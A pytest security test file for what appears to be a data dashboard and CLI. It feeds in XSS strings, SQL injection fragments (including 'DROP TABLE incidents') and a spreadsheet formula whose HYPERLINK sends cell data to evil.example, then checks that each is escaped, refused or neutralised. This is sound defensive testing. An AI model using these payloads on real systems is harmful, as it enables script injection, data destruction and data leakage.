"""The attacks: HTML and script in names and commentary, SQL fragments in every filter and CLI argument, formula
cells in exports. (Editing without signing in is tried in tests/test_pages.py.)"""

from __future__ import annotations

import csv
import io
import sqlite3

import pytest

from lib.cli import main as cli
from lib.core.export import csv_bytes
from lib.performance import targets
from lib.priorities import action_plan
from lib.store.db import open_store
from tests.app_support import copy_store, demo_store_file
from tests.conftest import store_fingerprint
from tests.test_pages import open_page
from ui.modes import NAVIGATION_CSS, PRESENTATION_CSS

HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)><b>bold</b> & [link](javascript:alert(2))'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SQL = ["' OR '1'='1", "x'; DROP TABLE incidents; --", '" OR ""="', "1) UNION SELECT name FROM sqlite_master --"]
CSP = "X22000002"


@pytest.fixture
def hostile(tmp_path):
    """A copy of the demo store whose CSP name, action texts and target texts are hostile."""
    path = copy_store(demo_store_file(), tmp_path / "hostile.db")
    with sqlite3.connect(path) as db:
        db.execute("UPDATE areas SET name = ? WHERE code = ?", [f"Castlebury {HOSTILE}", CSP])
        db.execute("UPDATE actions SET commentary = ?, action = ? || action", [HOSTILE, FORMULA])
        db.execute("UPDATE targets SET commentary = ?, measure = measure || ? WHERE csp_code = ?",
                   [FORMULA, HOSTILE, CSP])
    return path


def _rendered_html(app) -> list[str]:
    """Everything on a page that the browser would take as HTML rather than text."""
    raw = [m.proto.body for m in app.markdown if m.proto.allow_html]
    raw += [m.proto.body for m in app.caption if m.proto.allow_html]
    raw += [h.proto.body for h in app.get("html")]
    return raw


PAGES = ["pages/home.py", "pages/overview.py", "pages/trends.py", "pages/measures.py", "pages/similar.py",
         "pages/hotspots.py", "pages/priorities.py", "pages/actions.py", "pages/present.py", "pages/pack.py",
         "pages/data.py"]


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("present", ["0", "1"])
def test_hostile_text_is_never_rendered_as_html(monkeypatch, hostile, page, present):
    app = open_page(monkeypatch, hostile, page, area=CSP, present=present)
    assert not app.exception
    for body in _rendered_html(app):
        assert body in (NAVIGATION_CSS, PRESENTATION_CSS), f"raw HTML on {page}: {body[:120]}"
    # The name is on the page (at least in the area picker), as text: its tags are shown, not obeyed.
    shown = [*(m.value for m in app.markdown), *(s.value for s in app.subheader),
             *app.selectbox(key="sidebar_area").options]
    assert any("script" in text for text in shown)


LINK_PARAMETERS = ["area", "period", "indicator", "areas", "view", "measure", "level", "compare", "csp", "unit",
                   "layer", "size", "year", "version", "axes", "trail", "issue", "priority", "where", "lead", "rag",
                   "show", "step", "tab", "present", "public", "basemap", "predicted"]


@pytest.mark.parametrize("page", PAGES)
def test_sql_in_every_link_parameter_is_only_a_value(monkeypatch, tmp_path, page):
    store = copy_store(demo_store_file(), tmp_path / "demo.db")
    before = store_fingerprint(open_store(store))
    # Every parameter the app reads gets one of the fragments, so each fragment reaches several of them.
    query = {name: SQL[n % len(SQL)] for n, name in enumerate(LINK_PARAMETERS)}
    app = open_page(monkeypatch, store, page, **query)
    assert not app.exception
    assert store_fingerprint(open_store(store)) == before
    assert app.query_params.get("area") == "X10000001"  # an unknown area falls back to the default


@pytest.mark.parametrize("payload", SQL)
def test_sql_in_cli_arguments_is_refused_or_matches_nothing(tmp_path, capsys, payload):
    store = copy_store(demo_store_file(), tmp_path / "demo.db")
    before = store_fingerprint(open_store(store))
    assert 2 == cli(["--db", str(store), "counts", "--area", payload, "--category", "Drugs"])
    assert "no area" in capsys.readouterr().err.lower()
    assert 2 == cli(["--db", str(store), "counts", "--area", CSP, "--category", payload])
    assert "no category" in capsys.readouterr().err.lower()
    with pytest.raises(SystemExit) as refused:  # the kind must be one of the five the store knows
        cli(["--db", str(store), "areas", "--kind", payload])
    assert 2 == refused.value.code and "invalid choice" in capsys.readouterr().err
    assert 2 == cli(["--db", str(store), "pack", "--area", payload, "--out", str(tmp_path / "p.pdf")])
    assert store_fingerprint(open_store(store)) == before


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_formula_cells_are_neutralised_in_every_export_of_hostile_text(hostile):
    db = open_store(hostile)
    exports = {
        "action plan": csv_bytes(action_plan.export_frame(action_plan.load_actions(db))),
        "targets": csv_bytes(targets.targets_frame(targets.load_targets(db, CSP))),
    }
    for name, data in exports.items():
        cells = _cells(data)
        assert any(FORMULA in cell for cell in cells), f"the {name} export should hold the hostile text"
        for cell in cells:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), f"{name}: {cell[:40]}"
            assert not (cell.startswith("-") and not _is_number(cell)), f"{name}: {cell[:40]}"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_an_exported_plan_imports_back_with_its_hostile_text_intact(hostile, tmp_path):
    db = open_store(hostile)
    before = store_fingerprint(db, ignore=("import_log",))
    path = tmp_path / "plan.csv"
    path.write_bytes(csv_bytes(action_plan.export_frame(action_plan.load_actions(db))))
    action_plan.import_actions(db, path)
    assert store_fingerprint(db, ignore=("import_log",)) == before
    assert {a.commentary for a in action_plan.load_actions(db)} == {HOSTILE}
    assert all(a.action.startswith(FORMULA) for a in action_plan.load_actions(db))
